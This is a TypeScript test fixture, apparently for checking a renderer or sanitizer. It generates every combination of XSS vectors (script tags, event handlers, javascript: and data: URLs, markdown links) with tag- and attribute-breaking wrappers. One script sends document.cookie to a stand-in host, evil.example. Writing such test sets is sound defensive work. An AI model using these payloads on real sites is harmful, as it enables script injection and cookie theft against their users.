// Texts that would run, load or lead somewhere if anything took them for more than words. `ran` is what they set.

const scripts = ['ran=1', 'window.ran=1', 'fetch("https://evil.example/"+document.cookie)', 'top["ran"]=1']

const vectors = (script: string): string[] => [
  `<script>${script}</script>`,
  `<img src=x onerror=${script}>`,
  `<svg onload=${script}>`,
  `<svg><script>${script}</script></svg>`,
  `<iframe srcdoc="<script>parent.${script}</script>">`,
  `<a href="javascript:${script}">x</a>`,
  `[x](javascript:${script})`,
  `[x](data:text/html,<script>${script}</script>)`,
  `![x](https://evil.example/x.png "onload=${script}")`,
  `<details open ontoggle=${script}>`,
  `<math><mi xlink:href="javascript:${script}">x</mi></math>`,
  `<input autofocus onfocus=${script}>`,
  `<style>@import "https://evil.example/x.css";</style><body onload=${script}>`,
  `<object data="javascript:${script}"></object>`,
]

const wrappers: readonly ((vector: string) => string)[] = [
  (vector) => vector,
  (vector) => `"><${vector}`,
  (vector) => `'>\n\n- ${vector}\n  - **${vector}**`,
  (vector) => `| a | b |\n|---|---|\n| ${vector} | [1] |`,
  (vector) => `\`\`\`html\n${vector}\n\`\`\`\n${vector}`,
  (vector) => `# ${vector} *${vector}*`,
  (vector) => `${vector.replaceAll('<', '&lt;')} ${vector.toUpperCase()}`,
  (vector) => `[1](${vector}) [^1]: ${vector}`,
  (vector) => `</textarea></title></script>--> ${vector}\0${vector}`,
]

/** Every vector with every script in every wrapping. */
export const hostilePayloads: readonly string[] = scripts.flatMap((script) =>
  vectors(script).flatMap((vector) => wrappers.map((wrap) => wrap(vector))),
)
